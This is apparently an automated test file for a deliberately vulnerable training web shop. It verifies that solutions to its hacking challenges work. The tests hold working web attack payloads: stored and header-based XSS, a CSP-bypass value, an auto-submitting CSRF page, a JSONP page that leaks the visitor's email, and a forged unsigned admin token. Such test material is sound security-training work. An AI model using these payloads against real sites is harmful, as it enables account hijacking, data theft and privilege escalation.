import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { SCRIPT_FRAME } from '#game/evidence/payloads.ts'
import { createVisitor } from '#game/visitor/create-visitor.ts'
import type { OpenRange } from '../support/open-range.ts'
import { onKeptPage } from '../support/stage.ts'
import { enterAs } from './account-steps.ts'

let range: OpenRange
let page: Page
onKeptPage((stage) => {
  ;({ range, page } = stage)
})

const EMAIL = 'gullible@example.org'
const PASSWORD = 'squeeze-me'
const FORM = { 'content-type': 'application/x-www-form-urlencoded' }

/** Resolves with the text of the next alert and closes it, because an open alert blocks the page. */
function nextAlert(): Promise<string> {
  return new Promise((resolve) => {
    page.once('dialog', (dialog) => {
      resolve(dialog.message())
      void dialog.accept()
    })
  })
}

/** A customer who is signed in on another device, over the network. */
async function customer(): Promise<ReturnType<typeof createVisitor>> {
  const customer = createVisitor(range.url)
  await customer.register(EMAIL, PASSWORD)
  await customer.login(EMAIL, PASSWORD)
  return customer
}

/** Saves a page in the lab and returns its address, which has another origin than the shop. */
async function leavePage(name: string, html: string): Promise<string> {
  const redirect = await fetch(`${range.url}/range/lab/`, { redirect: 'manual', headers: { accept: 'text/html' } })
  const { origin } = new URL(redirect.headers.get('location') ?? '')
  expect(origin).not.toBe(range.url)
  const reply = await fetch(`${origin}/range/lab/pages/new`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ name, html }),
  })
  expect(reply.status).toBe(200)
  return `${origin}/range/lab/p/${name}`
}

describe('scripts that customers leave behind', () => {
  it('run for the staff, out of the address of a customer', async () => {
    expect((await createVisitor(range.url).register(SCRIPT_FRAME, PASSWORD)).status).toBe(201)
    expect(await range.solved()).toEqual(['persistedXssUserChallenge'])
    await enterAs(page, range.url, 'admin@juice-sh.op', 'admin123')
    const alerted = nextAlert()
    await page.goto(`${range.url}/#/administration`)
    expect(await alerted).toBe('xss')
    await expect.poll(() => range.solved()).toContain('adminSectionChallenge')
    // The row is not among the first ten, so it is in the hidden sheet and not in the table.
    expect(await page.locator('.mat-cell.mat-column-email').locator('iframe').count()).toBe(0)
    expect(await page.locator('.hidden-table iframe').count()).toBe(1)
  })

  it('run after the next sign-in, out of a header', async () => {
    const signedOut = await customer()
    await signedOut.get('/rest/saveLoginIp', { headers: { 'true-client-ip': SCRIPT_FRAME } })
    expect(await range.solved()).toEqual(['httpHeaderXssChallenge'])
    await enterAs(page, range.url, EMAIL, PASSWORD)
    const alerted = nextAlert()
    await page.goto(`${range.url}/#/privacy-security/last-login-ip`)
    expect(await alerted).toBe('xss')
  })

  it('run on the profile page, once the picture has opened its policy', async () => {
    const vain = await customer()
    const submit = (path: string, fields: Record<string, string>) =>
      vain.post(path, new URLSearchParams(fields).toString(), { headers: FORM })
    await enterAs(page, range.url, EMAIL, PASSWORD)

    await submit('/profile', { username: '<<a|ascript>alert(`xss`)</script>' })
    const complaints: string[] = []
    page.on('console', (line) => complaints.push(line.text()))
    const unopened = await page.goto(`${range.url}/profile`)
    expect(unopened?.headers()['content-security-policy']).toContain("script-src 'self' 'unsafe-eval'")
    await expect.poll(() => complaints.join()).toContain('Content Security Policy')
    expect(await range.solved()).toEqual([])

    await submit('/profile/image/url', { imageUrl: "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'" })
    const alerted = nextAlert()
    await page.goto(`${range.url}/profile`)
    expect(await alerted).toBe('xss')
    expect(await range.solved()).toEqual(['usernameXssChallenge'])
  })
})

describe('pages of the lab', () => {
  it('change the name of a signed-in customer', async () => {
    const bait = await leavePage(
      'bait',
      `<form id="bait" method="post" action="${range.url}/profile"><input name="username" value="Gullible"></form>
<script>document.getElementById('bait').submit()</script>`,
    )
    await page.goto(bait)
    await page.waitForURL(`${range.url}/profile`)
    expect(await range.solved()).not.toContain('csrfChallenge')

    await customer()
    await enterAs(page, range.url, EMAIL, PASSWORD)
    await page.goto(bait)
    await page.waitForURL(`${range.url}/profile`)
    expect(await page.locator('#username').inputValue()).toBe('Gullible')
    await expect.poll(() => range.solved()).toContain('csrfChallenge')
  })

  it('are not needed to change one’s own name, which solves nothing', async () => {
    await customer()
    await enterAs(page, range.url, EMAIL, PASSWORD)
    await page.goto(`${range.url}/profile`)
    await page.locator('#username').fill('Myself')
    await page.locator('#submit').click()
    await expect.poll(() => page.locator('#username').inputValue()).toBe('Myself')
    expect(await range.solved()).toEqual([])
  })

  it('learn the address of a visitor from a script of the shop', async () => {
    const spy = await leavePage(
      'spy',
      `<p id="told"></p>
<script>function tell(data) { document.getElementById('told').textContent = data.user.email }</script>
<script src="${range.url}/rest/user/whoami?callback=tell"></script>`,
    )
    await customer()
    await enterAs(page, range.url, EMAIL, PASSWORD)
    await page.goto(spy)
    await expect.poll(() => page.locator('#told').textContent()).toBe(EMAIL)
    await expect.poll(() => range.solved()).toEqual(['emailLeakChallenge'])
  })
})

it('the back office believes a token that its visitor wrote', async () => {
  await page.goto(`${range.url}/#/administration`)
  await expect.poll(() => page.locator('h1').first().textContent()).toContain('403')
  expect(await range.solved()).toEqual([])
  await page.evaluate(() => {
    localStorage.setItem('token', `x.${btoa(JSON.stringify({ data: { role: 'admin' } }))}.x`)
  })
  await page.reload()
  await page.locator('app-administration').waitFor()
  await expect.poll(() => range.solved()).toEqual(['adminSectionChallenge'])
})
